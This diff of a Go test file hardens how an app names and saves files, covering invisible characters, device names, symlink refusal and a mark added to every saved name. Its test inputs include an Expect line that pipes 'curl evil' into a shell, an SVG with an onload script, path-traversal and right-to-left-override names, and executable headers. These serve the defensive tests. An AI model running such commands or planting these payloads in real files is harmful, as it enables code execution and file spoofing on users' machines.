@@ -1,7 +1,6 @@
 package files
 
 import (
-	"bytes"
 	"encoding/base64"
 	"errors"
 	"fmt"
@@ -376,14 +375,14 @@ func TestCheckName(t *testing.T) {
 		name string
 		want string // a part of the reason; "" for no error
 	}{
-		{"design.dst", ""},
+		{"design.dst", "it is not an image name"}, // issue 35 F1: a design goes through --save
 		{"Photo.PNG", ""},
-		{"über.svg", ""},
-		{"u\u0308ber.svg", ""}, // NFD: a combining mark is not a format character
-		{"刺繍のデザイン.dst", ""},
-		{"なぜ？.dst", ""}, // a fullwidth question mark is not "?"
-		{"notes.txt", "its kind is not one of the app's"},
-		{"سلام.dst", ""},
+		{"über.gif", ""},
+		{"u\u0308ber.gif", ""}, // NFD: a combining mark is not a format character
+		{"刺繍のデザイン.jpg", ""},
+		{"なぜ？.webp", ""}, // a fullwidth question mark is not "?"
+		{"notes.txt", "it is not an image name"},
+		{"سلام.png", ""},
 		{"🌹 rose.png", ""},
 		{"❤️.png", "it holds U+FE0F, a character that displays as nothing"}, // the one rule: a variation selector
 		{"package\ufe0f.json", "it holds U+FE0F, a character that displays as nothing"},
@@ -392,9 +391,9 @@ func TestCheckName(t *testing.T) {
 		{"x\u2064.dst", "it holds U+2064, an invisible formatting character"},
 		{"x\U000e0080.dst", "it holds U+E0080, a code point not assigned"},
 		{"x\U000f0041.dst", "it holds U+F0041, a private-use character"},
-		{"my design.dst", ""},
-		{"a.b.dst", ""},
-		{"COM10.dst", ""},
+		{"my design.png", ""},
+		{"a.b.png", ""},
+		{"COM10.png", ""},
 		{"", "it is empty"},
 		{strings.Repeat("a", 252) + ".dst", "it is 256 bytes, over 255"},
 		{"\xff.dst", "it is not valid UTF-8"},
@@ -443,16 +442,19 @@ func TestCheckName(t *testing.T) {
 		{"CON.png", "it is a Windows device name"},
 		{"lpt¹.txt", "it is a Windows device name"},
 		{"Aux .md", "it is a Windows device name"},
-		{"x.exe", "its kind is not one of the app's: .png"},
-		{"warp.dst", ""},
-		{"package.json.txt", "its kind is not one of the app's"},
-		{"my-package.json", ""},
-		{"design.stitchslop", ""},
-		{"readme.md", "its kind is not one of the app's"},
-		{"x.png\u00a0", "its kind is not one of the app's"},
-		{"design.inf", ""},
-		{"rose.json", ""},
-		{"rose-export.json", ""},
+		{"x.exe", "it is not an image name"},
+		{"warp.dst", "it is not an image name"},
+		{"warp.png", ""},
+		{"package.json.txt", "it is not an image name"},
+		{"my-package.json", "it is not an image name"},
+		{"design.stitchslop", "it is not an image name"},
+		{"design.stitchslop.png", "the mark of the names --save builds"},
+		{"readme.md", "it is not an image name"},
+		{"x.png\u00a0", "it is not an image name"},
+		{"design.inf", "it is not an image name"},
+		{"package.json", "it is not an image name"},
+		{"site.exp", "it is not an image name"},
+		{"rose-export.jpeg", ""},
 	}
 	for _, tt := range tests {
 		t.Run(tt.want, func(t *testing.T) {
@@ -630,22 +632,23 @@ func TestSaveOverwrite(t *testing.T) {
 	}
 
 	_, err := save(dir, "sub.dst", []byte("x"), true)
-	if err == nil || !strings.Contains(err.Error(), "is a directory") {
-		t.Errorf("save(dir, %q, true) over a directory = %v, want error containing %q", "sub.dst", err, "is a directory")
+	if err == nil || !strings.Contains(err.Error(), "is not a regular file") {
+		t.Errorf("save(dir, %q, true) over a directory = %v, want error containing %q", "sub.dst", err, "is not a regular file")
 	}
 
+	// THREAT_MODEL A5: only a regular file is ever replaced; a symbolic
+	// link at the name is refused even with overwrite, and left as it was.
 	want := []string{"old.dst", "sub.dst/"}
 	if os.Symlink(target, filepath.Join(dir, "link.png")) == nil {
 		img := append(append([]byte{}, pngBytes...), "new"...)
-		if _, err := save(dir, "link.png", img, true); err != nil {
-			t.Errorf("save(dir, %q, true) over a symlink = %v, want nil", "link.png", err)
+		if _, err := save(dir, "link.png", img, true); err == nil || !strings.Contains(err.Error(), "is not a regular file") {
+			t.Errorf("save(dir, %q, true) over a symlink = %v, want it refused", "link.png", err)
 		}
 		if b, _ := os.ReadFile(target); string(b) != string(pngBytes) {
 			t.Errorf("save(dir, %q, true) wrote through the symlink: target holds %q", "link.png", b)
 		}
-		fi, err := os.Lstat(filepath.Join(dir, "link.png"))
-		if err != nil || !fi.Mode().IsRegular() {
-			t.Errorf("save(dir, %q, true) left %v, %v; want a regular file", "link.png", fi, err)
+		if fi, err := os.Lstat(filepath.Join(dir, "link.png")); err != nil || fi.Mode()&fs.ModeSymlink == 0 {
+			t.Errorf("save(dir, %q, true) left %v, %v; want the symlink", "link.png", fi, err)
 		}
 		want = []string{"link.png", "old.dst", "sub.dst/"}
 	}
@@ -819,61 +822,43 @@ func TestBatchSavesEachNameOnce(t *testing.T) {
 	dir := t.TempDir()
 	b := Batch{Dir: dir, Overwrite: true}
 	for i, tt := range []struct{ given, want string }{
-		{"rose.dst", "rose.dst"}, {"Rose.DST", "rose-2.dst"}, {"ro\u200bse.dst", "rose-3.dst"},
-		{"rose-2.dst", "rose-2-2.dst"}, {"CON.dst", "con-2.dst"}, {"lpt1.json", "lpt1-2.stitchslop.json"},
+		{"rose.dst", "rose.stitchslop.dst"}, {"Rose.DST", "rose-2.stitchslop.dst"}, {"ro\u200bse.dst", "rose-3.stitchslop.dst"},
+		{"rose-2.dst", "rose-2-2.stitchslop.dst"}, {"CON.dst", "con-2.stitchslop.dst"}, {"lpt1.json", "lpt1-2.stitchslop.json"},
 	} {
 		path, err := b.Save(tt.given, []byte{'0' + byte(i)})
 		if err != nil || path != filepath.Join(dir, tt.want) {
 			t.Errorf("Batch.Save(%q) = %q, %v; want %s", tt.given, path, err, tt.want)
 		}
 	}
-	if got, _ := os.ReadFile(filepath.Join(dir, "rose.dst")); string(got) != "0" {
-		t.Errorf("rose.dst = %q, want the first file", got)
+	if got, _ := os.ReadFile(filepath.Join(dir, "rose.stitchslop.dst")); string(got) != "0" {
+		t.Errorf("rose.stitchslop.dst = %q, want the first file", got)
 	}
 	if _, err := (&Batch{Dir: dir}).Save("rose.dst", []byte("y")); !errors.Is(err, fs.ErrExist) {
 		t.Errorf("a new Batch without Overwrite over rose.dst = %v, want it refused", err)
 	}
 }
 
-// TestBatchTakesItsOutName: the file call --out writes a reply's image to
-// is one of the reply's files: a file of the reply under its name, in any
-// case, in the same folder, reached by a link or not, gets another name
-// even with Overwrite, so that neither replaces the other; in another
-// folder it keeps its name.
-func TestBatchTakesItsOutName(t *testing.T) {
-	dir := t.TempDir()
-	out := filepath.Join(dir, "O.png")
-	if err := os.WriteFile(out, pngBytes, 0o644); err != nil {
-		t.Fatal(err)
-	}
-	link := filepath.Join(t.TempDir(), "link")
-	if err := os.Symlink(dir, link); err != nil {
-		t.Fatal(err)
-	}
-	for _, save := range []string{dir, dir + string(filepath.Separator), link} {
-		b := Batch{Dir: save, Overwrite: true, Out: out}
-		if path, err := b.Save("o.png", pngBytes); err != nil || filepath.Base(path) != "o-2.png" {
-			t.Errorf("Batch{Dir: %q, Out: %q}.Save(o.png) = %q, %v; want o-2.png", save, out, path, err)
+// TestSec_OutNeverTakesABuiltName: every name a Batch builds holds
+// ".stitchslop." (or ends in .stitchslop) and no --out name may, in any
+// case, so the file call --out writes a reply's image to and the reply's
+// own files, saved into the same folder, never replace one another.
+func TestSec_OutNeverTakesABuiltName(t *testing.T) {
+	for _, n := range []string{"o.stitchslop.png", "O.STITCHSLOP.PNG", "o.\u017ftitchslop.png", "a.b.st\u0131tchslop.jpg"} {
+		if why := checkName(n); why == "" {
+			t.Errorf("checkName(%q) = ok, want it refused: a built name's mark", n)
 		}
 	}
-	if b, _ := os.ReadFile(out); !bytes.Equal(b, pngBytes) {
-		t.Errorf("--out's file holds %q, want it untouched", b)
-	}
-	// NTFS upper-cases a dotless ı to I: R\u0131SE.png is rise.png there.
-	b := Batch{Dir: dir, Out: filepath.Join(dir, "R\u0131SE.png")}
-	if path, err := b.Save("rise.png", pngBytes); err != nil || filepath.Base(path) != "rise-2.png" {
-		t.Errorf("Batch{Out: R\u0131SE.png}.Save(rise.png) = %q, %v; want rise-2.png", path, err)
-	}
-	other := t.TempDir()
-	if path, err := (&Batch{Dir: other, Out: out}).Save("o.png", pngBytes); err != nil || filepath.Base(path) != "o.png" {
-		t.Errorf("Batch{Dir: other, Out: %q}.Save(o.png) = %q, %v; want o.png", out, path, err)
+	dir := t.TempDir()
+	p, err := (&Batch{Dir: dir}).Save("o.png", pngBytes)
+	if err != nil || checkName(filepath.Base(p)) == "" {
+		t.Errorf("Batch.Save(o.png) = %q, %v; want a name --out may not take", p, err)
 	}
 }
 
 // builtName is every name Name may build: a stem that starts and ends with
 // a letter or digit, an app kind's extension, .stitchslop before those
 // tools read by name.
-var builtName = regexp.MustCompile(`^[a-z0-9]([a-z0-9_-]*[a-z0-9])?(-[0-9]+)?(\.(png|jpg|gif|webp|dst|pes|jef|exp|vp3|col|svg|dxf|stitchslop)|\.stitchslop\.(json|txt|md|inf))$`)
+var builtName = regexp.MustCompile(`^[a-z0-9]([a-z0-9_-]*[a-z0-9])?(-[0-9]+)?\.stitchslop(\.(png|jpg|gif|webp|dst|pes|jef|exp|vp3|col|svg|dxf|json|txt|md|inf))?$`)
 
 // TestName: the name saved is built from the stem given and the content's
 // kind, whatever the name given (issue 35).
@@ -883,8 +868,8 @@ func TestName(t *testing.T) {
 		data  []byte
 		want  string // "" for refused
 	}{
-		{"rose.dst", []byte("LA:"), "rose.dst"},
-		{"My Rose.v2.PES", []byte("#PES"), "my-rose-v2.pes"},
+		{"rose.dst", []byte("LA:"), "rose.stitchslop.dst"},
+		{"My Rose.v2.PES", []byte("#PES0001"), "my-rose-v2.stitchslop.pes"},
 		{"package.json", []byte("{}"), "package.stitchslop.json"},
 		{"tauri.conf.json", []byte("{}"), "tauri-conf.stitchslop.json"},
 		{"CLAUDE.md", []byte("obey"), "claude.stitchslop.md"},
@@ -893,14 +878,28 @@ func TestName(t *testing.T) {
 		{"x.sh", []byte("#!/bin/sh"), "x.stitchslop.txt"},
 		{"Makefile", []byte("all:"), "makefile.stitchslop.txt"},
 		{"evil.exe", []byte("MZ\x90\x00\xff"), ""},
-		{"evil\u202Egnp.exe", pngBytes, "evilgnp.png"},
+		{"evil\u202Egnp.exe", pngBytes, "evilgnp.stitchslop.png"},
 		{"../../.bashrc", []byte("x"), "file.stitchslop.txt"},
-		{"-rf.dst", []byte("x"), "rf.dst"},
-		{"刺繍.dst", []byte("x"), "file.dst"},
+		{"-rf.dst", []byte("x"), "rf.stitchslop.dst"},
+		{"刺繍.dst", []byte("x"), "file.stitchslop.dst"},
 		{"", []byte("x"), "file.stitchslop.txt"},
-		{"photo.jpg", pngBytes, "photo.png"},
+		{"photo.jpg", pngBytes, "photo.stitchslop.png"},
 		{"photo.png", []byte("not an image"), ""},
-		{strings.Repeat("a", 300) + ".svg", []byte("<svg/>"), strings.Repeat("a", maxStem) + ".svg"},
+		{strings.Repeat("a", 300) + ".svg", []byte("<svg/>"), strings.Repeat("a", maxStem) + ".stitchslop.svg"},
+		{"design.stitchslop", []byte(`{"v":1}`), "design.stitchslop"},
+		// Issue 35 F2: every kind gets the mark, the exact names tools read
+		// among them, and a kind with a cheap signature is checked.
+		{"site.exp", []byte("spawn sh"), "site.stitchslop.exp"},
+		{"icon.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`), "icon.stitchslop.svg"},
+		{"folder.jpg", []byte{0xff, 0xd8, 0xff, 0xe0}, "folder.stitchslop.jpg"},
+		{"x.pes", []byte("LA:not a pes"), "x.stitchslop.txt"},
+		{"x.pes", []byte{0x7f, 'E', 'L', 'F', 0}, ""},
+		{"x.json", []byte("{not json"), "x.stitchslop.txt"},
+		{"x.stitchslop", []byte{0, 1, 2}, ""},
+		{"x.svg", []byte("<html><svg/></html>"), "x.stitchslop.txt"},
+		{"x.svg", []byte("<svg><unclosed></svg>"), "x.stitchslop.txt"},
+		{"x.txt", []byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, ""},
+		{"x.md", []byte{0xff, 0xfe}, ""},
 	} {
 		stem, ext, err := Name(tt.given, tt.data)
 		switch {
@@ -910,6 +909,44 @@ func TestName(t *testing.T) {
 			t.Errorf("Name(%q) = %q, %v; want %q", tt.given, stem+ext, err, tt.want)
 		case err == nil && !builtName.MatchString(stem+ext):
 			t.Errorf("Name(%q) = %q, not a built name", tt.given, stem+ext)
+		}
+	}
+}
+
+// TestT16_EveryNameMarked: issue 35 F2: no built name is one a tool
+// reads by exact name, for any kind (site.exp, runtest's Expect script;
+// icon.svg, which Next.js reads as app/icon.svg; folder.jpg, Explorer's
+// cover), and a kind with a cheap signature holds it.
+func TestT16_EveryNameMarked(t *testing.T) {
+	bin := []byte{0x7f, 'E', 'L', 'F', 0, 1, 2, 0xff}
+	jpeg := []byte{0xff, 0xd8, 0xff, 'P', 'K'}
+	for _, c := range []struct {
+		given string
+		data  []byte
+	}{
+		{"site.exp", []byte("spawn sh -c {curl evil|sh}\n")}, {"runtest.exp", bin},
+		{"icon.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)},
+		{"folder.jpg", jpeg}, {"desktop.ini", []byte("[.ShellClassInfo]")}, {"x.jef", bin},
+		{"x.inf", bin}, {"x.col", []byte("3\n")}, {"x.dxf", []byte("0\nSECTION")},
+		{"x.vp3", bin}, {"x.dst", bin}, {"x.stitchslop", []byte("{}")}, {"icon.png", pngBytes},
+	} {
+		stem, ext, err := Name(c.given, c.data)
+		if err != nil {
+			t.Errorf("Name(%q) = %v, want a name", c.given, err)
+			continue
+		}
+		if !builtName.MatchString(stem+ext) || !strings.Contains(stem+ext, Mark) {
+			t.Errorf("Name(%q) = %q, want stem%s.kind", c.given, stem+ext, Mark)
+		}
+	}
+	for _, c := range []struct {
+		given string
+		data  []byte
+	}{
+		{"x.svg", bin}, {"x.pes", bin}, {"x.json", bin}, {"x.txt", bin}, {"x.md", bin}, {"x.stitchslop", bin},
+	} {
+		if stem, ext, err := Name(c.given, c.data); err == nil {
+			t.Errorf("Name(%q, binary) = %q, want it refused: its bytes are not its kind", c.given, stem+ext)
 		}
 	}
 }
